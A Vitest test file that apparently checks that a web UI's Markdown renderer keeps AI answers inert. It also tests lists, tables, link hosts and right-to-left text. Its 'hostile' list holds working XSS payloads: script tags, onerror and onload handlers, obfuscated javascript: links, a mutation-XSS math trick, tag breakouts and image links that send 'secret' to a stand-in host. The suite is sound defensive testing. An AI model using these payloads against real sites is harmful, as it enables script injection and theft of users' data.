/** Whatever a model writes, an answer is text: nothing in it runs, loads, or leads anywhere but the web. */
import { render } from 'lit';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { markdown } from '../../src/ui/markdown.ts';

let stage: HTMLElement;
beforeEach(() => {
  stage = document.createElement('div');
  document.body.append(stage);
});
afterEach(() => stage.remove());

function set(text: string): HTMLElement {
  render(markdown(text, { picture: (alt) => `picture: ${alt}` }), stage);
  return stage;
}
const shown = (text: string) => set(text).textContent.replaceAll(/\s+/g, ' ').trim();

/** Elements an answer may be made of. */
const harmless = new Set(
  'p h4 h5 h6 ul ol li blockquote pre code strong em del br hr a span div table thead tbody tr th td'.split(
    ' ',
  ),
);
const fields = new Set([
  'dir',
  'class',
  'start',
  'scope',
  'tabindex',
  'href',
  'target',
  'rel',
  'referrerpolicy',
]);

const hostile: [string, string][] = [
  ['a script', '<script>globalThis.hit = 1</script>'],
  ['a script inside a line', 'hello <script>globalThis.hit = 1</script> there'],
  ['a picture that fails', '<img src=x onerror="globalThis.hit = 1">'],
  ['a picture that tells', '![a](https://tell.example/?q=secret)'],
  ['a picture by reference', '![a][r]\n\n[r]: https://tell.example/?q=secret'],
  ['a link that runs', '[a](javascript:globalThis.hit=1)'],
  ['a link that runs, in capitals', '[a](JaVaScRiPt:globalThis.hit=1)'],
  ['a link that runs, with a tab', '[a](java\tscript:globalThis.hit=1)'],
  ['a link that runs, with an entity', '[a](&#106;avascript:globalThis.hit=1)'],
  ['a link that runs, with a colon spelled out', '[a](javascript&colon;globalThis.hit=1)'],
  ['a link with data', '[a](data:text/html,<script>globalThis.hit=1</script>)'],
  ['a link to a file', '[a](file:///etc/passwd)'],
  ['a link to a blob', '[a](blob:https://tell.example/x)'],
  ['a link that runs Basic', '[a](vbscript:msgbox)'],
  ['a link into the page itself', '[a](/api/verdicts)'],
  ['a link without a scheme', '[a](//tell.example)'],
  ['a sharp link by itself', '<javascript:globalThis.hit=1>'],
  ['a drawing', '<svg onload="globalThis.hit = 1"><circle /></svg>'],
  ['a frame', '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>'],
  [
    'a form',
    '<form action="https://tell.example"><input name=a autofocus onfocus="globalThis.hit=1"></form>',
  ],
  ['a style', '<style>* { background: url(https://tell.example) }</style>'],
  ['a base', '<base href="https://tell.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://tell.example">'],
  ['an end of our own tags', '</div></crows-answer><img src=x onerror="globalThis.hit=1">'],
  ['a template marker', '<!--?lit$123$--><?lit$123$>${globalThis.hit=1}'],
  ['a title with quotes', '[a](https://ok.example "x\\" onmouseover=\\"globalThis.hit=1")'],
  ['a word for the code', '```html" onload="globalThis.hit=1\n<b>\n```'],
  ['math that is markup', '<math><mtext><mglyph><style><!--</style><img src=x onerror="globalThis.hit=1">'],
  ['a table cell', '| a |\n|---|\n| <img src=x onerror="globalThis.hit=1"> |'],
  ['a heading', '# <img src=x onerror="globalThis.hit=1">'],
];

describe('what is hostile', () => {
  it.each(hostile)('is inert: %s', async (_, text) => {
    set(text);
    await new Promise((done) => requestAnimationFrame(done));
    for (const element of stage.querySelectorAll('*')) {
      expect(harmless).toContain(element.localName);
      for (const { name } of element.attributes) expect(fields).toContain(name);
    }
    for (const link of stage.querySelectorAll('a')) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
      expect(link.rel).toBe('noopener noreferrer nofollow');
    }
    expect('hit' in globalThis).toBe(false);
    expect(
      performance.getEntriesByType('resource').filter(({ name }) => name.includes('tell.example')),
    ).toEqual([]);
  });

  it('is read as it was written, not dropped', () => {
    expect(shown('hello <b onclick="x">you</b>')).toBe('hello <b onclick="x">you</b>');
    expect(shown('<script>one</script>')).toBe('<script>one</script>');
    expect(shown('[a](javascript:alert(1))')).toBe('[a](javascript:alert(1))');
  });

  it('nests without end and is shown all the same', () => {
    for (const text of ['>'.repeat(20_000) + ' deep', '- '.repeat(5_000) + 'deep', '*a '.repeat(3_000)]) {
      expect(set(text).textContent).toContain(text.trim().slice(-4));
    }
  });
});

describe('a link', () => {
  it('shows the host the browser will ask, also of a name that looks like another', () => {
    expect(set('[bank](https://раураl.com/x)').querySelector('.host')?.textContent).toMatch(/^xn--/);
    expect(set('<https://ok.example/a?b=1>').querySelector('a')?.href).toBe('https://ok.example/a?b=1');
    expect(set('[write](mailto:a@b.example)').querySelector('.host')?.textContent).toBe('a@b.example');
  });

  it('stands in for a picture', () => {
    const link = set('![a map](https://ok.example/map.png)').querySelector('a');
    expect(link?.textContent).toContain('picture: a map');
    expect(stage.querySelector('img')).toBeNull();
  });
});

describe('everyday Markdown', () => {
  it('keeps its form', () => {
    set(
      '# One\n\ntwo **three** _four_ ~~five~~ `six`\n\n1. a\n2. b\n   - c\n\n> quoted\n\n---\n\n```js\nlet x = 1;\n```',
    );
    expect([...stage.querySelectorAll('*')].map(({ localName }) => localName).join(' ')).toBe(
      'h4 p strong em del code ol li li ul li blockquote p hr pre code',
    );
    expect(stage.querySelector('pre')?.textContent).toBe('let x = 1;');
  });

  it('starts a numbered list where it was started', () => {
    expect(set('4. d\n5. e').querySelector('ol')?.start).toBe(4);
  });

  it('shows the state of a box once', () => {
    expect(shown('- [x] done\n- [ ] open')).toBe('☑ done☐ open');
  });

  it('reads tables with their alignment', () => {
    set('| a | b |\n|:-|-:|\n| 1 | 2 |');
    expect([...stage.querySelectorAll('th')].map(({ className }) => className)).toEqual(['left', 'right']);
    expect(stage.querySelectorAll('td').length).toBe(2);
  });

  it('decodes references once', () => {
    expect(shown('Tom &amp; Jerry &lt;3 `a &amp; b`')).toBe('Tom & Jerry <3 a &amp; b');
  });

  it('turns with the direction of its words, and code does not', () => {
    set('שלום עולם\n\n- אחת\n\n  שתיים\n\n> שלוש\n\n| א |\n|---|\n| ב |\n\n`code`');
    for (const name of ['p', 'ul', 'li', 'blockquote', 'td']) {
      expect(getComputedStyle(stage.querySelector(name)!).direction, name).toBe('rtl');
    }
    expect(stage.querySelector('code')?.dir).toBe('ltr');
  });
});
